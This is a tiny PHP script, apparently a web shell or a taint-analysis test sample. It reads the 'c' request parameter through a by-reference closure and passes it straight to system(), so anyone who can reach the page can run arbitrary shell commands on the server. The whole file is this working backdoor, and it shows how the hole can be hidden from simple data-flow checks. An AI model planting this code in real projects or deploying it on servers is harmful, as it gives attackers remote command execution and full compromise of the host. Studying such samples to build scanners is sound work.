<?php
$f = function () use (&$c) { $c = $_GET["c"]; };
$f();
system($c);
